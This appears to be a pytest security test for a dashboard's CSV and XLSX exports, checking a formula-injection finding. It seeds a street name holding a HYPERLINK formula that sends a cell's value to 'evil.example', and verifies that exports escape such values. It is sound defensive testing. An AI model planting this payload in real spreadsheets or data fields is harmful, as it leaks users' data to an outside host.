"""Finding 10: formula injection — a street named =HYPERLINK(…) is exported raw to CSV and as a live XLSX formula."""

from __future__ import annotations

import base64
import csv
import io
import json

import openpyxl
import pytest

from tests.security.conftest import cli_ok, dash_call, dash_output, login, start_server

EVIL_STREET = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
EVIL_COMMUNITY = "@SUM(1+1)"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def evil_server(seed, tmp_path_factory):
    """The demo city plus one grid (away from the others) whose street and community names are formulas."""
    folder = tmp_path_factory.mktemp("exports")
    db = seed.copy(folder / "evil.duckdb")
    props = {
        "grid_code": "330180999001001",
        "name": "+1+2",
        "community_code": "330180999001",
        "street_code": "330180999",
        "district_code": "330180",
        "community_name": EVIL_COMMUNITY,
        "street_name": EVIL_STREET,
        "population": 500,
        "households": 200,
    }
    ring = [[120.30, 30.30], [120.302, 30.30], [120.302, 30.302], [120.30, 30.302], [120.30, 30.30]]
    feature = {"type": "Feature", "properties": props, "geometry": {"type": "Polygon", "coordinates": [ring]}}
    path = folder / "evil.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}), encoding="utf-8")
    cli_ok("load", "grids", str(path), "--db", str(db))
    running = start_server(db)
    yield running
    running.stop()


def _ranking_rows(client) -> list[dict]:
    reply = dash_call(
        client,
        dash_output(client, "leader-ranking.data"),
        [
            {"id": "leader-unit", "property": "data", "value": None},
            {"id": "leader-level", "property": "value", "value": "street"},
            {"id": "leader-window", "property": "value", "value": "30d"},
            {"id": "leader-version", "property": "data", "value": 1},
        ],
        [],
    )
    assert reply.status_code == 200, reply.text[:300]
    rows = reply.json()["response"]["leader-ranking"]["data"]
    assert any(r.get("name") == EVIL_STREET for r in rows), f"precondition: the street is ranked ({len(rows)} rows)"
    return rows


def _export(client, rows, which: int) -> dict:
    reply = dash_call(
        client,
        dash_output(client, "leader-download.data"),
        [
            {"id": "leader-export-csv", "property": "n_clicks", "value": 1},
            {"id": "leader-export-xlsx", "property": "n_clicks", "value": 1},
        ],
        [
            {"id": "leader-ranking", "property": "data", "value": rows},
            {"id": "leader-level", "property": "value", "value": "street"},
            {"id": "url", "property": "search", "value": ""},
        ],
        changed=which,
    )
    assert reply.status_code == 200, reply.text[:300]
    return reply.json()["response"]["leader-download"]["data"]


def _cells_with(text: str, cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and text.strip("=@+") in c]


def test_leader_csv_neutralises_formulas(evil_server):
    client = login(evil_server, "viewer")
    sent = _export(client, _ranking_rows(client), 0)
    content = base64.b64decode(sent["content"]).decode("utf-8-sig") if sent.get("base64") else sent["content"]
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    found = _cells_with("HYPERLINK", cells)
    assert found, "the street is missing from the CSV"
    assert all(cell == "'" + EVIL_STREET for cell in found), f"CSV cells: {found}"
    assert not [c for c in cells if c.startswith(DANGEROUS) and not _is_number(c)], "a CSV cell starts a formula"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_leader_xlsx_writes_strings_not_formulas(evil_server):
    client = login(evil_server, "viewer")
    sent = _export(client, _ranking_rows(client), 1)
    book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(sent["content"])))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas, f"XLSX cells stored as formulas: {formulas}"
    found = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert found and all(c.data_type == "s" and c.value == "'" + EVIL_STREET for c in found), [
        (c.coordinate, c.data_type, c.value) for c in found
    ]
